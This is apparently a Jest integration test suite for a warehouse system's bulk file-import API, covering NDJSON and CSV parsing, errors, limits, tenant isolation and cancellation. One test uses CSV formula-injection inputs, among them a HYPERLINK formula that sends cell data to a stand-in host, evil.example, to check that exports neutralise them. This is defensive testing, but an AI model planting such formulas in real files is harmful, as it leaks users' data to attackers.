import { request as httpRequest } from 'node:http';
import { gzipSync } from 'node:zlib';
import { parse as parseCsv } from 'csv-parse/sync';
import { ImportsRepository } from '@wms/ingest';
import { unitOfWork } from '@wms/platform';
import {
  createApiKey,
  createTenantWithWarehouse,
  createTestContext,
  createUser,
  loginAs,
  defaultTenantId,
  request,
  waitFor,
  type JsonNode,
  type TestContext,
  type TestGateway,
} from '@wms/testing';

const BASE = '/api/v1/integration/v1';

interface ImportStatus {
  jobId: string;
  state: string;
  entity: string;
  total: number;
  processed: number;
  created: number;
  updated: number;
  failed: number;
  errorsUrl: string;
}

const itemLine = (sku: string, name = `Item ${sku}`) => JSON.stringify({ sku, name, baseUomCode: 'EA' });

describe('file imports through the integration API', () => {
  let ctx: TestContext;
  let gateway: TestGateway;
  let key: string;
  let otherKey: string;

  beforeAll(async () => {
    ctx = await createTestContext('imports-routes', { IMPORT_CHUNK_ROWS: '500' });
    gateway = await ctx.startGateway();
    await ctx.startIngestWorker();
    const tenantId = await defaultTenantId(ctx);
    key = (await createApiKey(ctx, { tenantId })).rawKey;
    otherKey = (await createApiKey(ctx, { tenantId })).rawKey;
  });
  afterAll(() => ctx.close());

  const upload = (entity: string, body: string | Buffer, headers: Record<string, string>, via = gateway) =>
    fetch(`${via.url}${BASE}/imports?entity=${entity}`, {
      method: 'POST',
      headers: { 'x-api-key': key, ...headers },
      body,
    }).then(async (response) => ({ status: response.status, body: (await response.json()) as JsonNode }));

  const ndjson = { 'content-type': 'application/x-ndjson' };
  const csv = { 'content-type': 'text/csv' };

  async function finished(jobId: string, apiKey = key): Promise<ImportStatus> {
    return waitFor(
      async () =>
        (
          await request<{ data: ImportStatus }>(gateway.url, 'GET', `${BASE}/jobs/${jobId}`, {
            headers: { 'x-api-key': apiKey },
          })
        ).body.data,
      (job) => ['completed', 'failed', 'cancelled'].includes(job.state),
      30_000,
      `import ${jobId} to finish`,
    );
  }

  async function count(sql: string, bind: unknown[] = []): Promise<number> {
    const [rows] = (await ctx.runtime.db.sequelize.query(sql, { bind })) as [{ n: number }[], unknown];
    return rows[0]!.n;
  }

  /** The `import.completed` events of an import, as appended to the outbox. */
  async function endedEvents(jobId: string): Promise<unknown[]> {
    const [rows] = (await ctx.runtime.db.sequelize.query(
      `SELECT data FROM events WHERE event = 'import.completed' AND data->>'importId' = $1`,
      { bind: [jobId] },
    )) as [{ data: unknown }[], unknown];
    return rows.map((row) => row.data);
  }

  it('when an NDJSON file has good lines, a line that is not JSON and an invalid entry, the good ones are stored and the bad ones listed by line', async () => {
    const lines = Array.from({ length: 1_200 }, (_unused, index) => itemLine(`ND-${index}`));
    lines.splice(10, 0, '{not json');
    lines.splice(700, 0, JSON.stringify({ sku: 'ND-BAD', baseUomCode: 'EA' }));
    lines.splice(20, 0, '');

    const accepted = await upload('items', `${lines.join('\n')}\n`, ndjson);

    expect(accepted.status).toBe(202);
    expect(accepted.body).toMatchObject({
      status: 'accepted',
      statusUrl: `${BASE}/jobs/${String(accepted.body.jobId)}`,
    });
    const job = await finished(String(accepted.body.jobId));
    expect(job).toMatchObject({ state: 'completed', entity: 'items', total: 1_202, processed: 1_202 });
    expect(job).toMatchObject({ created: 1_200, updated: 0, failed: 2 });
    expect(await count(`SELECT count(*)::int AS n FROM items WHERE sku LIKE 'ND-%'`)).toBe(1_200);
    expect(await endedEvents(job.jobId)).toEqual([
      {
        importId: job.jobId,
        entity: 'items',
        state: 'completed',
        total: 1_202,
        processed: 1_202,
        created: 1_200,
        updated: 0,
        failed: 2,
        errorsUrl: job.errorsUrl,
        tenantId: expect.any(String),
      },
    ]);
    const errors = await fetch(`${gateway.url}${job.errorsUrl}`, { headers: { 'x-api-key': key } });
    expect(errors.headers.get('content-type')).toContain('application/x-ndjson');
    const rows = (await errors.text())
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as { line: number; key: string; error: { code: string }; entry: unknown });
    expect(rows).toEqual([
      { line: 11, key: '', error: { code: 'INVALID_JSON', message: 'The line is not valid JSON' }, entry: '{not json' },
      {
        line: 702,
        key: 'ND-BAD',
        error: {
          code: 'VALIDATION_FAILED',
          message: expect.any(String),
          details: [{ path: 'name', message: expect.any(String) }],
        },
        entry: { sku: 'ND-BAD', baseUomCode: 'EA' },
      },
    ]);
  });

  it('when a gzip CSV of partners is imported twice, the second import counts every good row as updated and the errors CSV keeps the columns', async () => {
    const header = 'code,name,type,contact.phone';
    const records = Array.from(
      { length: 300 },
      (_unused, index) => `CSV-${index},"Partner, ${index}",supplier,+31-${index}`,
    );
    records[5] = 'CSV-5,Bad type,alien,';
    const file = gzipSync(`${header}\r\n${records.join('\r\n')}\r\n`);

    const first = await finished(
      String((await upload('partners', file, { ...csv, 'content-encoding': 'gzip' })).body.jobId),
    );
    const second = await finished(
      String((await upload('partners', file, { ...csv, 'content-encoding': 'gzip' })).body.jobId),
    );

    expect(first).toMatchObject({ state: 'completed', total: 300, created: 299, updated: 0, failed: 1 });
    expect(second).toMatchObject({ state: 'completed', total: 300, created: 0, updated: 299, failed: 1 });
    const [partner] = (
      await ctx.runtime.db.sequelize.query(`SELECT name, contact FROM partners WHERE code = 'CSV-7'`)
    )[0] as [{ name: string; contact: unknown }];
    expect(partner).toEqual({ name: 'Partner, 7', contact: { phone: '+31-7' } });
    const errors = await fetch(`${gateway.url}${second.errorsUrl}`, {
      headers: { 'x-api-key': key, accept: 'text/csv' },
    });
    expect(await errors.text()).toBe(
      `${header},error\r\nCSV-5,Bad type,alien,,${'"type must be one of [supplier, customer, carrier, other]"'}\r\n`,
    );
  });

  it("when failed rows hold formulas, the errors CSV prefixes each formula cell with ' and leaves -5 alone; the NDJSON errors keep the text as sent", async () => {
    const file = [
      'sku,name,baseUomCode',
      '"=HYPERLINK(""http://evil.example/?leak=""&A1,""open"")",,EA',
      '@SUM(A1),,EA',
      'FORMULA-3,,+1+2',
      'FORMULA-4,,-1+A1',
      'FORMULA-5,,-5',
      'FORMULA-6,,"	TAB"',
      'FORMULA-7,,a=b',
    ].join('\r\n');

    const job = await finished(String((await upload('items', `${file}\r\n`, csv)).body.jobId));
    const asCsv = await fetch(`${gateway.url}${job.errorsUrl}`, { headers: { 'x-api-key': key, accept: 'text/csv' } });
    const asNdjson = await fetch(`${gateway.url}${job.errorsUrl}`, { headers: { 'x-api-key': key } });

    expect(job).toMatchObject({ state: 'completed', failed: 7 });
    const cells = parseCsv(await asCsv.text()) as string[][];
    expect(cells.map((record) => record.slice(0, 3))).toEqual([
      ['sku', 'name', 'baseUomCode'],
      ['\'=HYPERLINK("http://evil.example/?leak="&A1,"open")', '', 'EA'],
      ["'@SUM(A1)", '', 'EA'],
      ['FORMULA-3', '', "'+1+2"],
      ['FORMULA-4', '', "'-1+A1"],
      ['FORMULA-5', '', '-5'],
      ['FORMULA-6', '', "'\tTAB"],
      ['FORMULA-7', '', 'a=b'],
    ]);
    const entries = (await asNdjson.text())
      .trim()
      .split('\n')
      .map((line) => (JSON.parse(line) as { entry: Record<string, string> }).entry);
    expect(entries.map((entry) => entry.sku).slice(0, 2)).toEqual([
      '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
      '@SUM(A1)',
    ]);
    expect(entries.map((entry) => entry.baseUomCode).slice(2)).toEqual(['+1+2', '-1+A1', '-5', '\tTAB', 'a=b']);
  });

  it('when the file is wrong as a whole, it answers 4xx and stores nothing', async () => {
    const before = await count('SELECT count(*)::int AS n FROM imports');

    expect((await upload('items', itemLine('X'), { 'content-type': 'application/json' })).status).toBe(415);
    expect((await upload('asn', 'sku\nX', csv)).status).toBe(415);
    expect((await upload('items', '', ndjson)).status).toBe(400);
    expect((await upload('items', '\n\n', ndjson)).status).toBe(400);
    expect((await upload('items', '', csv)).status).toBe(400);
    const unknown = await upload('items', 'sku,name,colour\nA,B,red\n', csv);
    expect(unknown.status).toBe(400);
    expect(unknown.body).toMatchObject({
      code: 'VALIDATION_FAILED',
      message: 'The CSV header names unknown columns: colour',
    });
    expect((await upload('items', itemLine('X'), { ...ndjson, 'content-encoding': 'gzip' })).status).toBe(400);
    expect((await upload('widgets', itemLine('X'), ndjson)).status).toBe(400);

    expect(await count('SELECT count(*)::int AS n FROM imports')).toBe(before);
    expect(
      await count(`SELECT count(*)::int AS n FROM import_rows WHERE import_id NOT IN (SELECT id FROM imports)`),
    ).toBe(0);
  });

  it('when the body is cut off midway, nothing is stored', async () => {
    const before = await count('SELECT count(*)::int AS n FROM import_rows');
    const { port } = new URL(gateway.url);
    const lines = `${Array.from({ length: 2_000 }, (_unused, index) => itemLine(`CUT-${index}`)).join('\n')}\n`;

    await new Promise<void>((resolve) => {
      const req = httpRequest({
        host: '127.0.0.1',
        port,
        method: 'POST',
        path: `${BASE}/imports?entity=items`,
        headers: { 'x-api-key': key, 'content-type': 'application/x-ndjson', 'content-length': lines.length * 2 },
      });
      req.on('error', () => resolve());
      req.on('close', () => resolve());
      req.write(lines, () => setImmediate(() => req.destroy()));
    });

    await waitFor(
      () =>
        count(
          `SELECT count(*)::int AS n FROM pg_stat_activity WHERE query LIKE 'COPY import_rows%' AND state = 'active'`,
        ),
      (n) => n === 0,
      10_000,
      'the COPY to end',
    );
    expect(await count('SELECT count(*)::int AS n FROM import_rows')).toBe(before);
    expect(await count(`SELECT count(*)::int AS n FROM items WHERE sku LIKE 'CUT-%'`)).toBe(0);
  });

  it('when the file has more rows than the limit, it answers 413', async () => {
    const small = await ctx.startGateway({ IMPORT_MAX_ROWS: '10', IMPORT_MAX_BYTES: '100000' });
    const rows = Array.from({ length: 11 }, (_unused, index) => itemLine(`LIM-${index}`)).join('\n');

    const overRows = await upload('items', rows, ndjson, small);
    const overBytes = await upload('items', 'x'.repeat(100_001), ndjson, small);

    expect(overRows).toMatchObject({ status: 413, body: { code: 'PAYLOAD_TOO_LARGE' } });
    expect(overBytes).toMatchObject({ status: 413, body: { code: 'PAYLOAD_TOO_LARGE' } });
  });

  it('when another key asks for an import, it is not found; and a finished import cannot be cancelled', async () => {
    const lines = Array.from({ length: 200 }, (_unused, index) => itemLine(`OWN-${index}`)).join('\n');
    const jobId = String((await upload('items', lines, ndjson)).body.jobId);
    const other = { headers: { 'x-api-key': otherKey } };

    expect((await request(gateway.url, 'GET', `${BASE}/jobs/${jobId}`, other)).status).toBe(404);
    expect((await request(gateway.url, 'GET', `${BASE}/jobs/${jobId}/errors`, other)).status).toBe(404);
    expect((await request(gateway.url, 'DELETE', `${BASE}/jobs/${jobId}`, other)).status).toBe(404);
    await finished(jobId);
    const cancel = await request(gateway.url, 'DELETE', `${BASE}/jobs/${jobId}`, { headers: { 'x-api-key': key } });
    expect(cancel).toMatchObject({ status: 409, body: { code: 'INVALID_STATE' } });
  });

  it('when an Idempotency-Key is repeated, the first answer is replayed and one import exists', async () => {
    const lines = Array.from({ length: 20 }, (_unused, index) => itemLine(`IDEM-${index}`)).join('\n');
    const headers = { ...ndjson, 'idempotency-key': 'import-once-1' };

    const first = await upload('items', lines, headers);
    const again = await upload('items', lines, headers);

    expect(first.status).toBe(202);
    expect(again).toEqual(first);
    expect(
      await count(`SELECT count(*)::int AS n FROM imports WHERE request_id = $1`, [String(first.body.requestId)]),
    ).toBe(1);
  });

  it("when a tenant-bound user imports through the portal API, it sees its tenant's imports only, and needs the module of the entity", async () => {
    const other = await createTenantWithWarehouse(ctx);
    const own = await createUser(ctx, {
      role: 'operator',
      tenantId: await defaultTenantId(ctx),
      adminModules: ['warehouses'],
      adminModulesWrite: ['warehouses'],
    });
    const stranger = await createUser(ctx, {
      role: 'operator',
      tenantId: other.tenant.id,
      adminModules: ['warehouses', 'orders'],
      adminModulesWrite: ['warehouses', 'orders'],
    });
    const token = await loginAs(gateway.url, own.user.email, own.password);
    const strangerToken = await loginAs(gateway.url, stranger.user.email, stranger.password);
    const portalUpload = (entity: string, bearer: string) =>
      fetch(`${gateway.url}/api/v1/imports?entity=${entity}`, {
        method: 'POST',
        headers: { authorization: `Bearer ${bearer}`, 'content-type': 'text/csv' },
        body: 'sku,name,baseUomCode\nPORTAL-1,Portal item,EA\n',
      });

    const accepted = await portalUpload('items', token);
    const refused = await portalUpload('orders', token);

    expect(accepted.status).toBe(202);
    expect(refused.status).toBe(403);
    const { jobId } = (await accepted.json()) as { jobId: string };
    const mine = await request<Array<{ jobId: string }>>(gateway.url, 'GET', '/api/v1/imports', { token });
    expect(mine.body.map((job) => job.jobId)).toContain(jobId);
    const theirs = await request<Array<{ jobId: string }>>(gateway.url, 'GET', '/api/v1/imports', {
      token: strangerToken,
    });
    expect(theirs.body).toEqual([]);
    expect((await request(gateway.url, 'GET', `/api/v1/imports/${jobId}`, { token: strangerToken })).status).toBe(404);
  });

  it('when a running import is cancelled, it stops where it got, what was written stays, and import.completed says cancelled', async () => {
    const lines = Array.from({ length: 6_000 }, (_unused, index) => itemLine(`CANCEL-${index}`)).join('\n');
    const jobId = String((await upload('items', lines, ndjson)).body.jobId);
    // The last chunk held by the test: the import cannot finish before it is cancelled.
    const hold = await ctx.runtime.db.sequelize.transaction();
    await ctx.runtime.db.sequelize.query('SELECT 1 FROM import_chunks WHERE import_id = $1 AND chunk = 11 FOR UPDATE', {
      bind: [jobId],
      transaction: hold,
    });
    const status = async () =>
      (
        await request<{ data: ImportStatus }>(gateway.url, 'GET', `${BASE}/jobs/${jobId}`, {
          headers: { 'x-api-key': key },
        })
      ).body.data;
    await waitFor(status, (job) => job.processed > 0, 30_000, 'the import to run');

    const cancel = await request<{ data: ImportStatus }>(gateway.url, 'DELETE', `${BASE}/jobs/${jobId}`, {
      headers: { 'x-api-key': key },
    });
    await hold.rollback();

    expect(cancel).toMatchObject({ status: 200, body: { data: { state: 'cancelled' } } });
    // A chunk a worker had claimed before the cancel still commits, its writes and its counts together.
    const written = () => count(`SELECT count(*)::int AS n FROM items WHERE sku LIKE 'CANCEL-%'`);
    const settled = (await waitFor(
      async () => ({ job: await status(), items: await written() }),
      ({ job, items }) => job.created === items,
      30_000,
      'the counts to match what was written',
    ))!;
    expect(settled.job.state).toBe('cancelled');
    expect(settled.job.processed).toBeLessThan(6_000);
    expect(settled.items).toBe(settled.job.created);
    // Sent once, when the cancel committed, with the counts of then (a chunk committing after it sends none).
    const [ended, ...more] = (await endedEvents(jobId)) as Array<{ state: string; processed: number }>;
    expect(more).toEqual([]);
    expect(ended).toMatchObject({ importId: jobId, entity: 'items', state: 'cancelled', total: 6_000 });
    expect(ended!.processed).toBeLessThanOrEqual(settled.job.processed);
  });

  it('when finished imports are older than the retention, their staged and failed rows are purged and the job is gone', async () => {
    const repository = new ImportsRepository(ctx.runtime.db, ctx.config);
    const finishedIds = await count(`SELECT count(*)::int AS n FROM imports WHERE finished_at IS NOT NULL`);
    expect(finishedIds).toBeGreaterThan(0);
    const [{ id }] = (
      await ctx.runtime.db.sequelize.query(`SELECT id FROM imports WHERE finished_at IS NOT NULL LIMIT 1`)
    )[0] as [{ id: string }];

    while (await unitOfWork(ctx.runtime.db, (work) => repository.purgeOne(0, 1_000, work)));

    expect(await count(`SELECT count(*)::int AS n FROM imports WHERE finished_at IS NOT NULL`)).toBe(0);
    expect(await count(`SELECT count(*)::int AS n FROM import_rows WHERE import_id = '${id}'`)).toBe(0);
    expect(await count(`SELECT count(*)::int AS n FROM import_errors WHERE import_id = '${id}'`)).toBe(0);
  });
});
